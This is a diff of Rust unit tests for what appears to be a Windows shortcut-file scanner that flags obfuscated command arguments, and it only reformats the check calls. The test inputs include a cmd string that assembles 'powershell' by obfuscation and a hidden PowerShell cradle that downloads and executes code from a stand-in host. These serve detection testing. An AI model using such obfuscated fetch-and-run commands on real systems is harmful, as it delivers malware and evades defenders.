@@ -317,7 +317,10 @@ mod tests {
             let scripts = part.children.iter().map(|script| told(script, "script"));
             expected.assert_eq(&(tree(&part) + &scripts.collect::<String>()));
         };
-        check(r"..\Windows\System32\cmd.exe", "/c \"set x=power&& set y=sh^ell&& call %x%%y% -nop\"", expect![[r#"
+        check(
+            r"..\Windows\System32\cmd.exe",
+            "/c \"set x=power&& set y=sh^ell&& call %x%%y% -nop\"",
+            expect![[r#"
             x | lnk 238
               arguments.bat | txt 53
                 ! layer.hidden-calls calls=List(["powershell"])
@@ -329,7 +332,8 @@ mod tests {
             script.put_together = 3
             script.hidden_calls = ["powershell"]
             script.calls = ["cmd /c"]
-        "#]]);
+        "#]],
+        );
         check(
             r"..\powershell.exe",
             "-w hidden -c \"&('I'+'EX') (New-Object Net.WebClient).('Down'+'loadString')('http://example.org/a')\"",
@@ -348,9 +352,13 @@ mod tests {
                 script.calls = ["net.webclient", "-w hidden", "new-object", "powershell"]
             "#]],
         );
-        check(r"..\notepad.exe", "a.txt", expect![[r#"
+        check(
+            r"..\notepad.exe",
+            "a.txt",
+            expect![[r#"
             x | lnk 122
-        "#]]);
+        "#]],
+        );
     }
 
     #[test]
